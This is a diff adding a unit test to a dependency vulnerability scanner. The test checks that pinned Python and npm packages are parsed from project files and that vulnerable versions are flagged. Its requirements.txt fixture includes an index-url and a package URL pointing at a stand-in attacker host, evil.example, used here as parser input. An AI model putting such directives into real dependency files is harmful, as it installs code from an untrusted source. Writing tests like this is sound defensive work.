@@ -227,3 +227,29 @@ def test_sbom_is_cyclonedx_with_packages_hashes_and_findings(loaded: VulnService
         "": {}, "node_modules/@scope/pkg": {"version": "1.0.0", "integrity": "sha512-AAAA"}}}})
     bom = cyclonedx("acme", "js", 1, "f" * 64, 0.0, npm_lock, None)
     assert bom["components"][0]["purl"] == "pkg:npm/%40scope/pkg@1.0.0"
+
+
+def test_project_files_are_scanned_for_what_they_pin(loaded: VulnService, store: SqlStore) -> None:
+    from hyac_agent.vulns import scan_files
+    from hyac_agent.vulns.files import pinned_packages
+
+    files = {
+        "hyac.toml": b'[project]\nname = "p"\n[functions.f]\nrequirements = ["six==1.16.0"]\n',
+        "functions/f/requirements.txt": b"# pins\nrequests[socks]==2.19.0 ; python_version > '3'\n"
+                                        b"urllib3>=1.24\n--index-url https://evil.example/\n"
+                                        b"pkg @ https://evil.example/p.whl\n",
+    }
+    assert pinned_packages(files, "python3.12") == (
+        "PyPI", [("requests", "2.19.0"), ("six", "1.16.0"), ("urllib3", None)])
+    result = scan_files(store, files, "python3.12")
+    assert result is not None and result.status == "vulnerable"
+    assert {p.name: p.status for p in result.packages} == {
+        "requests": "vulnerable", "six": "clean", "urllib3": "unknown"}
+    lock = {"packages": {"": {}, "node_modules/lodash": {"version": "4.17.15"}}}
+    npm = scan_files(store, {"package-lock.json": json.dumps(lock).encode(),
+                             "package.json": b'{"dependencies": {"left-pad": "^1.0.0"}}'}, "node20")
+    assert npm is not None and ids(npm, "lodash")["GHSA-p6mc-m468-83gw"] == ("high", "4.17.19")
+    assert pinned_packages({"package.json": b'{"dependencies": {"lodash": "4.17.15", "x": "^1"}}'},
+                           "deno") == ("npm", [("lodash", "4.17.15"), ("x", None)])
+    assert scan_files(store, {"README.md": b"requests==2.19.0"}, "python3.12") is None
+    assert pinned_packages({"package.json": b"[not json"}, "node20") == ("npm", [])
